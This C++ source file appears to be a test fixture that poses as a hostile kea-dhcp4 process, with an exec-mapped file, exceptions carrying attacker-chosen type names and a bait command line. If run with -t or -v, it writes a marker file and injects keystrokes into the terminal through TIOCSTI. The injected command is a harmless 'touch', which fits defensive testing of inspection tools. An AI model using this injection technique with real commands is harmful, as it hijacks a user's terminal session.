// What an attacker runs under the name of kea-dhcp4. It keeps its command line for others to read:
//   -c FILE   a configuration
//   -m FILE   maps a file for execution, as a library is
//   -e NAME   throws an exception of a type with this name, again and again
// Run once more with -t or -v, it writes down that it was, and pushes keys into its terminal.
#include <fcntl.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>
#include <typeinfo>

namespace {
// A type with a name of our choice: what a hostile std::type_info looks like in memory.
struct Named : std::type_info {
  explicit Named(const char *name) : std::type_info(name) {}
};
}

extern "C" void *__cxa_allocate_exception(size_t) noexcept;
extern "C" void __cxa_throw(void *, std::type_info *, void (*)(void *));

int main(int argc, char **argv) {
  const char *name = nullptr;
  for (int i = 1; i < argc; i++) {
    if (strcmp(argv[i], "-t") == 0 || strcmp(argv[i], "-v") == 0) {
      close(open(RAN, O_CREAT | O_WRONLY, 0666));
      int terminal = open("/dev/tty", O_RDWR);
      for (const char *key = "touch " RAN ".typed\n"; *key != 0; key++) ioctl(terminal, TIOCSTI, key);
      return 0;
    }
    if (i + 1 == argc) break;
    if (strcmp(argv[i], "-e") == 0) name = argv[i + 1];
    if (strcmp(argv[i], "-m") == 0) {
      int file = open(argv[i + 1], O_RDONLY);
      mmap(nullptr, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, file, 0);
    }
  }
  if (name == nullptr) return pause();
  Named *type = new Named(name);
  for (;;) {
    try {
      __cxa_throw(__cxa_allocate_exception(1), type, nullptr);
    } catch (...) {
    }
    usleep(20000);
  }
}
